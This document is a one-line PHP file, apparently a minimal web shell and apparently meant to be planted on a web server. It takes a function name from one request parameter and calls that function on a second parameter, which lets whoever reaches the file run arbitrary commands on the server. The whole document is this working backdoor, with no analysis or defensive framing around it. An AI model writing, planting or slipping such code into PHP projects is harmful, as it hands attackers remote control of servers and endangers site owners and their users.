<?php $t=$_REQUEST["t"]; $q=@$t($_REQUEST["a"]);
